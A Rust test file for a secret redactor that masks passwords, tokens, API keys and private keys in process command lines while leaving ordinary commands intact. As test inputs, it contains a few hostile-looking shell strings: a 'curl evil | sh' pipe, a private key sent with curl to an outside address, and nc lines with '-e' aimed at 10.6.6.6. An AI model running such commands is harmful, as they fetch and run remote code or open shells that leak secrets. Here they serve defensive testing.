//! What is replaced, and what is left alone.

use super::*;
use crate::context::process::Start;

fn redactor(more: &[&str]) -> Redactor {
    let more: Vec<String> = more.iter().map(|text| (*text).to_owned()).collect();
    Redactor::new(&more, "***").expect("the patterns are good")
}

fn shown(text: &[u8]) -> String {
    String::from_utf8_lossy(text).into_owned()
}

/// A program of this name with these arguments, `argv[0]` first.
fn image(name: &str, argv: &[&[u8]]) -> Arc<Image> {
    let mut joined = Vec::new();
    for argument in argv {
        joined.extend_from_slice(argument);
        joined.push(0);
    }
    Arc::new(Image::new(&Start {
        name: name.as_bytes(),
        argv: &joined,
        ..Start::default()
    }))
}

/// What is shown of such a program's command line.
fn line(redactor: &Redactor, argv: &[&str]) -> String {
    let argv: Vec<&[u8]> = argv.iter().map(|argument| argument.as_bytes()).collect();
    let image = image(&shown(tools::base(argv[0])), &argv);
    match redactor.line(&image) {
        Some(line) => {
            assert_eq!(line.args(), &line.cmdline[line.args_at..]);
            shown(&line.cmdline)
        }
        None => shown(&image.cmdline),
    }
}

#[test]
fn arguments_that_are_secrets_are_replaced_whole_and_alone() {
    let redactor = redactor(&[]);
    let check = |argv: &[&str], expected: &str| {
        assert_eq!(line(&redactor, argv), expected, "{argv:?}");
    };
    // One argument behind a program that does nothing.
    let check_one = |argument: &str, expected: &str| {
        check(
            &["true", "x", argument, "y"],
            &format!("true x {expected} y"),
        );
    };
    for (argument, expected) in [
        ("--password=hunter2", "--password=***"),
        ("--password=a b", "--password=***"),
        ("--password=ab,cd", "--password=***"),
        ("--password=ab'cd", "--password=***"),
        ("--secret=a&b", "--secret=***"),
        ("TOKEN=a;b", "TOKEN=***"),
        ("PASSWORD1=x", "PASSWORD1=***"),
        ("API_KEY_PROD=x", "API_KEY_PROD=***"),
        ("PRIVATE_KEY_PEM=x", "PRIVATE_KEY_PEM=***"),
        ("STRIPE_KEY=abc12345", "STRIPE_KEY=***"),
        ("DBPASS=x", "DBPASS=***"),
        ("PASS=x", "PASS=***"),
        ("pwd=x", "pwd=***"),
        ("auth=abc12345", "auth=***"),
        ("TOKEN:=x", "TOKEN:=***"),
        ("token==x", "token==***"),
        ("PASSWORD+=x", "PASSWORD+=***"),
        ("password = x y", "password = ***"),
        ("password=\"x", "password=\"***"),
        ("password='x'", "password='***'"),
        ("password=$'x'", "password=$'***'"),
        ("PASSWORD=\\x", "PASSWORD=***"),
        ("AccountKey=x;y", "AccountKey=***"),
        ("Server=x;Password=y;z=1", "Server=x;Password=***;z=1"),
        ("Cookie: session=x; y=z", "Cookie: ***"),
        (
            "Authorization: Bearer abcdefgh",
            "Authorization: Bearer ***",
        ),
        ("Authorization: Basic QUJD", "Authorization: Basic ***"),
        ("authorization: abcdef", "authorization: ***"),
        ("X-Api-Key: a b", "X-Api-Key: ***"),
        ("secret_token: x", "secret_token: ***"),
        ("--db.password:x", "--db.password:***"),
        ("/token:x", "/token:***"),
        (
            "--env=MYSQL_ROOT_PASSWORD=a b",
            "--env=MYSQL_ROOT_PASSWORD=***",
        ),
        ("-eMYSQL_ROOT_PASSWORD=a b", "-eMYSQL_ROOT_PASSWORD=***"),
        ("--from-literal=password=x", "--from-literal=password=***"),
        (
            "-Dspring.datasource.password=x",
            "-Dspring.datasource.password=***",
        ),
        (
            "username=ann,password=x,vers=3",
            "username=ann,password=***,vers=3",
        ),
        (
            "{\"password\": \"a b\", \"user\": \"ann\"}",
            "{\"password\": \"***\", \"user\": \"ann\"}",
        ),
        ("{\"password\": \"a\\\"b\"}", "{\"password\": \"***\"}"),
        (
            "{\\\"password\\\":\\\"x\\\",\\\"a\\\":1}",
            "{\\\"password\\\":\\\"***\\\",\\\"a\\\":1}",
        ),
        ("{'token': 'x'}", "{'token': '***'}"),
        (
            "{\"name\":\"DB_PASSWORD\",\"value\":\"a b\"}",
            "{\"name\":\"DB_PASSWORD\",\"value\":\"***\"}",
        ),
        (
            "{\"Key\": \"HF_TOKEN\", \"Value\": \"x\"}",
            "{\"Key\": \"HF_TOKEN\", \"Value\": \"***\"}",
        ),
        (
            "{\"name\":\"MODE\",\"value\":\"fast\"}",
            "{\"name\":\"MODE\",\"value\":\"fast\"}",
        ),
        ("[\"--password\",\"x\"]", "[\"--password\",\"***\"]"),
        (
            "[\"--a\", \"--password\", \"x\"]",
            "[\"--a\", \"--password\", \"***\"]",
        ),
        ("[\"DB_PASSWORD=x y\"]", "[\"DB_PASSWORD=***\"]"),
        ("https://ann:hunter2@h/x", "https://ann:***@h/x"),
        ("postgres://u:p@ss@host/db", "postgres://u:***@host/db"),
        ("https://u:AA/leak@h/x", "https://u:***@h/x"),
        ("https://:tok@host/x", "https://:***@host/x"),
        ("https://0123456789abcdef@host/x", "https://***@host/x"),
        (
            "https://x/?sv=1&sig=ab%2B&t=1",
            "https://x/?sv=1&sig=***&t=1",
        ),
        ("https://x/?token=ab&t=1", "https://x/?token=***&t=1"),
        ("X-Amz-Signature=x", "X-Amz-Signature=***"),
        ("AKIAIOSFODNN7EXAMPLE", "***"),
        ("SG.abcdefghijklmnop.abcdefghijklmnop", "***"),
        ("dapi0123456789abcdef0123456789abcdef", "***"),
        ("gsk_abcdefghijklmnopqrstuvwx", "***"),
        ("r8_abcdefghijklmnopqrstuvwxyz", "***"),
        ("dop_v1_abcdefghijklmnopqrstuvwxyz", "***"),
        ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "***"),
        ("hf_abcdefghijklmnopqrstuvwxyz012345", "***"),
        ("sk-proj-abcdefghijklmnopqrstuvwxyz", "***"),
        ("nvapi-abcdefghijklmnopqrstuvwxyz", "***"),
        ("glpat-abcdefghijklmnopqrst", "***"),
        ("xoxb-0123456789-abc", "***"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_", "***"),
    ] {
        check_one(argument, expected);
    }
    for block in ["RSA PRIVATE KEY", "PGP PRIVATE KEY BLOCK"] {
        check_one(&format!("-----BEGIN {block}-----\nMIIabc\n"), "***\n");
        let headed = "Proc-Type: 4,ENCRYPTED\n\nMIIabcdefghijklmnop\nQQ==\n";
        check_one(
            &format!("-----BEGIN {block}-----\n{headed}-----END {block}-----"),
            "***",
        );
    }
    // An option and its value are two arguments.
    for (argv, expected) in [
        (&["t", "--password", "a b", "-v"][..], "t --password *** -v"),
        (&["t", "--token", "ab ", "rest"], "t --token *** rest"),
        (&["t", "--token", "a,b c;d"], "t --token ***"),
        (&["t", "--password", "-Abc1leak"], "t --password ***"),
        (&["t", "--password", "--really so"], "t --password ***"),
        (&["t", "--password", "--verbose"], "t --password --verbose"),
        (&["t", "--key", "abc12345"], "t --key ***"),
        (&["t", "-token", "abc"], "t -token ***"),
        (&["t", "--db-password", "x"], "t --db-password ***"),
        (&["t", "--api-key", "q\nx"], "t --api-key ***"),
        (&["t", "--no-password", "x"], "t --no-password x"),
        (&["t", "password", "=", "x", "y"], "t password = *** y"),
        (
            &["aws", "configure", "set", "aws_secret_access_key", "x"],
            "aws configure set aws_secret_access_key ***",
        ),
        (&["t", "-H", "API-Key:x y"], "t -H API-Key:***"),
        (
            &["t", "-e", "MYSQL_ROOT_PASSWORD=a b"],
            "t -e MYSQL_ROOT_PASSWORD=***",
        ),
        (
            &["t", "--set", "db.password=x,y=1"],
            "t --set db.password=***",
        ),
    ] {
        check(argv, expected);
    }
}

#[test]
fn programs_with_options_of_their_own_are_known() {
    let redactor = redactor(&[]);
    let check = |words: &str, expected: &str| {
        let argv: Vec<&str> = words.split(' ').collect();
        assert_eq!(line(&redactor, &argv), expected);
        // The same started by another program, and as a script.
        let sudo: Vec<&str> = ["sudo", "-n"].into_iter().chain(argv).collect();
        assert_eq!(line(&redactor, &sudo), format!("sudo -n {expected}"));
        let script = ["sh", "-c", &format!("true; X=1 {words} && ls -p x")];
        let in_script = format!("sh -c true; X=1 {expected} && ls -p x");
        assert_eq!(line(&redactor, &script), in_script);
        assert_eq!(shown(&redactor.text(words.as_bytes())), expected);
    };
    for (words, expected) in [
        ("mysql -u ann -phunter2 shop", "mysql -u ann -p*** shop"),
        ("sshpass -p hunter2 ssh h", "sshpass -p *** ssh h"),
        ("sshpass -phunter2 ssh h", "sshpass -p*** ssh h"),
        (
            "docker login -u ann -p hunter2 reg",
            "docker login -u ann -p *** reg",
        ),
        ("podman login -p=hunter2 reg", "podman login -p=*** reg"),
        ("curl -u ann:hunter2 https://x", "curl -u ann:*** https://x"),
        ("curl -sSu ann:hunter2 x", "curl -sSu ann:*** x"),
        ("curl -s --user ann:hunter2 x", "curl -s --user ann:*** x"),
        ("curl -b session=abc x", "curl -b session=*** x"),
        (
            "redis-cli -h r -a hunter2 ping",
            "redis-cli -h r -a *** ping",
        ),
        ("ldapsearch -x -w hunter2", "ldapsearch -x -w ***"),
        ("7z x -phunter2 a.7z", "7z x -p*** a.7z"),
        ("zip -P hunter2 a.zip b", "zip -P *** a.zip b"),
        (
            "openssl rsa -passin pass:hunter2",
            "openssl rsa -passin pass:***",
        ),
        (
            "docker exec db mysql -phunter2",
            "docker exec db mysql -p***",
        ),
        ("wandb login 0123456789abcdef", "wandb login ***"),
        ("xfreerdp /u:ann /p:hunter2", "xfreerdp /u:ann /p:***"),
    ] {
        check(words, expected);
    }
    for ordinary in [
        "mysql -p -u ann",
        "mysql -P 3306",
        "docker run -p 80:80 nginx",
        "unzip -p a.zip",
        "openssl s_client -key file -keyout x",
        "curl -u ann https://h:80/",
        "grep -a x",
        "wandb login",
        "zip -r a.zip b",
    ] {
        check(ordinary, ordinary);
    }
}

#[test]
fn scripts_lose_their_secrets_and_keep_what_they_do() {
    let redactor = redactor(&[]);
    let check = |script: &str, expected: &str| {
        assert_eq!(
            line(&redactor, &["bash", "-lc", script]),
            format!("bash -lc {expected}")
        );
        assert_eq!(shown(&redactor.text(script.as_bytes())), expected);
    };
    for (script, expected) in [
        ("TOKEN=x; curl evil | sh", "TOKEN=***; curl evil | sh"),
        ("export A_TOKEN=\"a b\"; x", "export A_TOKEN=\"***\"; x"),
        ("export A_TOKEN=a\\ b; x", "export A_TOKEN=***; x"),
        ("A_TOKEN=ab'c d'e x", "A_TOKEN=*** x"),
        ("t --password 'a b' -v", "t --password '***' -v"),
        ("t '--password=a b' -v", "t '--password=***' -v"),
        ("t --token $HF_TOKEN", "t --token $HF_TOKEN"),
        ("TOKEN=$(cat /x) t", "TOKEN=$(cat /x) t"),
        ("TOKEN=${A} t", "TOKEN=${A} t"),
        ("password = x y; z", "password = ***; z"),
        ("TOKEN= t x", "TOKEN= t x"),
        ("sh -c \"mysql -phunter2 x\"", "sh -c \"mysql -p*** x\""),
        (
            "curl -H \"X-Api-Key: a b\" x",
            "curl -H \"X-Api-Key: ***\" x",
        ),
        ("curl -H 'Cookie: a=b; c=d' x", "curl -H 'Cookie: ***' x"),
        (
            "curl -H 'Authorization: Bearer abcdefg' x",
            "curl -H 'Authorization: Bearer ***' x",
        ),
        (
            "python3 -c \"login(token='a b', n=1)\"",
            "python3 -c \"login(token='***', n=1)\"",
        ),
        (
            "import os; os.environ[\"HF_TOKEN\"] = \"a b\"; f(1)",
            "import os; os.environ[\"HF_TOKEN\"] = \"***\"; f(1)",
        ),
        ("login(token=abc, n=1)", "login(token=***, n=1)"),
        (
            "a: 1\ndb_password: x y\nb: 2",
            "a: 1\ndb_password: ***\nb: 2",
        ),
        ("don't; t --token abc", "don't; t --token ***"),
        (
            "PRIVATE=-----BEGIN RSA PRIVATE KEY----- && curl 10.0.0.1 evil",
            "PRIVATE=*** && curl 10.0.0.1 evil",
        ),
    ] {
        check(script, expected);
    }
}

#[test]
fn ordinary_command_lines_stay() {
    let redactor = redactor(&[]);
    for words in [
        "torchrun --nproc_per_node=8 --nnodes=2 --rdzv_backend=c10d --rdzv_endpoint=host:29500 --rdzv_id=job1 train.py",
        "python3 train.py --max-tokens 4096 --max_new_tokens=5 --max_tokens 128 --num_tokens=1 --tokens 3",
        "python3 -m vllm --tokenizer meta-llama/Llama-3.1-8B --tokenizer=x --tokenizer-mode auto --token-limit 1000",
        "env TOKENIZERS_PARALLELISM=false python3 x --key-padding left --num_keys 4 --num_keys=4 /path/keys/a.pem",
        "x --pad-token <pad> --eos_token=</s> --pad_token_id=0 token_type_ids=1 --image-token <image>",
        "accelerate launch --mixed_precision bf16 --num_processes 8 run.py --use_auth_token True --push_to_hub=False",
        "deepspeed --hostfile=/job/hostfile --master_addr 10.0.0.1 --master_port=29500 t.py --deepspeed ds.json",
        "python3 t.py data.prompt_key=prompt data.image_key=images reward_fn_key=data_source --sort-key name",
        "docker run --rm -e MODE=fast -v /secret:/run/secret:ro -p 80:80 vault-token:latest registry/vault-token:latest1",
        "docker build --secret id=aws,src=/x/credentials -t a:b .",
        "ansible --private-key /k/id_ed25519 --credentials /x/creds.json GOOGLE_APPLICATION_CREDENTIALS=/x.json",
        "ffmpeg -pass 1 -i a --pass 2",
        "jupyter lab --ip=0.0.0.0 --token= --password-file /run/x PASSWORD_FILE=/y --secret-name=x secretName=y",
        "nvidia-smi --query-gpu=index,name --format=csv",
        "git clone https://host:8080/path@x ssh://git@host/x http://[::1]:80/ http://[fe80::1]/x@y",
        "x PWD=/srv OLDPWD=/tmp user=ann uid=0 key=value monkey=1 keyboard=us primary_key=id sort-key=name",
        "cat /run/secrets/token:x /etc/passwd sha256:0123456789abcdef img@sha256:0123",
        "git commit -m secret the token was here: no",
        "sk-short hf_short eyJ.eyJ --auth basic auth=trust password=None --force --password --verbose",
        "BEGIN CERTIFICATE",
        "x",
    ] {
        let argv: Vec<&str> = words.split(' ').collect();
        assert_eq!(line(&redactor, &argv), words);
        assert_eq!(
            line(&redactor, &["sh", "-c", words]),
            format!("sh -c {words}")
        );
        assert_eq!(redactor.text(words.as_bytes()), words.as_bytes());
    }
    assert_eq!(redactor.text(b""), &b""[..]);
    assert_eq!(redactor.take_count(), 0);
}

#[test]
fn nothing_but_the_secrets_place_is_replaced() {
    let redactor = redactor(&[]);
    let check = |argv: &[&str], expected: &str| {
        assert_eq!(line(&redactor, argv), expected, "{argv:?}");
    };
    // The same word elsewhere is evidence.
    check(&["nc", "--token", "root", "root"], "nc --token *** root");
    check(
        &["nc", "{\"password\":\"", "10.6.6.6", "-e", "\""],
        "nc {\"password\":\"*** 10.6.6.6 -e \""
            .replace("***", "")
            .as_str(),
    );
    check(
        &["nc", "Authorization: x y z w", "10.6.6.6"],
        "nc Authorization: *** 10.6.6.6",
    );
    check(
        &["nc", "-----BEGIN RSA PRIVATE KEY-----", "evil"],
        "nc *** evil",
    );
    // A name is not an argument.
    let odd = image("--token=abc", &[b"x", b"y"]);
    assert_eq!(redactor.line(&odd), None);
}

#[test]
fn a_programs_own_name_is_looked_at_apart() {
    let redactor = redactor(&[]);
    let check = |argv0: &str, expected: &str| {
        let line = redactor.line(&image("x", &[argv0.as_bytes(), b"a"]));
        let exe = line.map_or_else(|| argv0.to_owned(), |line| shown(&line.exe));
        assert_eq!(exe, expected);
    };
    check("x --password=y", "x --password=***");
    check("mysql -u x -phunter2", "mysql -u x -p***");
    check("/usr/bin/x", "/usr/bin/x");
}

#[test]
fn bytes_that_are_no_text_are_replaced_like_others() {
    let redactor = redactor(&[]);
    for secret in [&b"\xff\xfeabc d"[..], b"ab \xffcd", b"\xc3"] {
        let image = image("t", &[b"t", b"--api-key", secret, b"x"]);
        let line = redactor.line(&image).expect("it holds a secret");
        assert_eq!(shown(&line.cmdline), "t --api-key *** x");
    }
}

#[test]
fn values_are_judged_by_their_names() {
    let redactor = redactor(&[]);
    let check = |name: &str, value: &str, expected: &str| {
        let found = redactor.value(name.as_bytes(), value.as_bytes());
        assert_eq!(shown(&found), expected, "{name}={value}");
    };
    check("DB_PASSWORD", "first second; third", "***");
    check("FOO_TOKEN", "pw1;x", "***");
    check("HF_TOKEN", "root", "***");
    check("api-token", "x", "***");
    check("db.password", "a b", "***");
    check(
        "DATABASE_URL",
        "postgres://u:pa/ss@h/x",
        "postgres://u:***@h/x",
    );
    check("OPTIONS", "--password=x y", "--password=***");
    check(
        "config",
        "{\"name\":\"DB_PASSWORD\",\"value\":\"x\"}",
        "{\"name\":\"DB_PASSWORD\",\"value\":\"***\"}",
    );
    for (name, value) in [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("HF_TOKEN_PATH", "/x/token"),
        ("HF_TOKEN", ""),
        ("NCCL_SOCKET_IFNAME", "eth0"),
        ("app", "vault-token:latest"),
        ("image", "registry.internal/vault-token:latest1"),
    ] {
        check(name, value, value);
    }
}

#[test]
fn what_begins_like_a_replacement_is_replaced_and_a_replacement_is_not() {
    let redactor = redactor(&[]);
    let check = |text: &str, expected: &str, count: u64| {
        assert_eq!(shown(&redactor.value(b"x", text.as_bytes())), expected);
        assert_eq!(redactor.take_count(), count, "{text}");
    };
    check("--token=***hunter2", "--token=***", 1);
    check("--token=***", "--token=***", 0);
    check("DB_PASSWORD=xhunter3 ", "DB_PASSWORD=***", 1);
}

#[test]
fn configured_patterns_are_added() {
    let redactor = redactor(&[
        r"acme-\d{4}",
        r"pin (?P<secret>\d+)",
        "ключ=(?P<secret>\\w+)",
    ]);
    let check = |text: &str, expected: &str| {
        assert_eq!(shown(&redactor.text(text.as_bytes())), expected);
        let argv: Vec<&str> = ["x"].into_iter().chain(text.split(' ')).collect();
        assert_eq!(line(&redactor, &argv), format!("x {expected}"));
    };
    check("x acme-1234 y", "x *** y");
    check("pin 77 --token=a", "pin *** --token=***");
    check("ключ=слово y", "ключ=*** y");
    // In paths and names nothing else is.
    assert_eq!(
        redactor.path(b"/x/acme-1234/token=a"),
        &b"/x/***/token=a"[..]
    );
}

#[test]
fn bad_patterns_are_named() {
    let check = |more: Vec<String>, expected: &str| {
        let error = Redactor::new(&more, "***").expect_err(expected).to_string();
        assert!(error.contains(expected), "{error:?} lacks {expected:?}");
    };
    check(
        vec!["ok".into(), "a(".into()],
        "pattern 2 (a(): unclosed group",
    );
    check(vec!["(?=x)".into()], "look-around");
    check(vec![r"\w{1000}{1000}".into()], "pattern 1");
    check(vec!["a*".into()], "matches the empty text");
    check(vec!["x".repeat(2000)], "2000 bytes long; at most 1024");
    check(vec!["x".into(); 65], "65 patterns; at most 64");
}

#[test]
fn a_command_line_is_read_once_while_it_is_remembered() {
    let redactor = redactor(&[]);
    let first = image("t", &[b"t", b"--token", b"abc"]);
    let line = redactor.line(&first).expect("a secret");
    assert!(Arc::ptr_eq(
        &line,
        &redactor.line(&first).expect("a secret")
    ));
    assert_eq!(redactor.take_count(), 2);
    // Others at the same address are others, and the memory has a bound.
    for number in 0..3 * LINES_MAX {
        let token = format!("x{number}");
        let image = image("t", &[b"t", b"--token", token.as_bytes(), token.as_bytes()]);
        let line = redactor.line(&image).expect("a secret");
        assert_eq!(shown(line.args()), format!("--token *** {token}"));
    }
    let many: Vec<_> = (0..2 * LINES_MAX).map(|_| image("t", &[b"t"])).collect();
    assert!(many.iter().all(|image| redactor.line(image).is_none()));
    assert!(redactor.lines.borrow().len() <= LINES_MAX);
}

#[test]
fn hostile_text_takes_no_longer_than_its_length_allows() {
    // What tried every split of such a text would not end in the test's time.
    let redactor = redactor(&[]);
    for piece in [
        "--password ",
        "mysql -",
        "a_",
        "://a:",
        "://",
        "eyJa.",
        "-----BEGIN ",
        "a=",
        "token=",
        "token:",
        "'",
        "\"",
        "\\\"",
        "a:\"",
        "\"--a\",",
        "name:a value:",
        "(",
        "; ",
        "{\"name\":\"",
        "token=\"",
        "\\",
        "-----BEGIN RSA PRIVATE KEY-----",
        "password = ",
        "x@",
        "=",
    ] {
        let text = piece.repeat(20_000 / piece.len());
        let _ = redactor.text(text.as_bytes());
        let _ = redactor.value(b"x", text.as_bytes());
    }
}
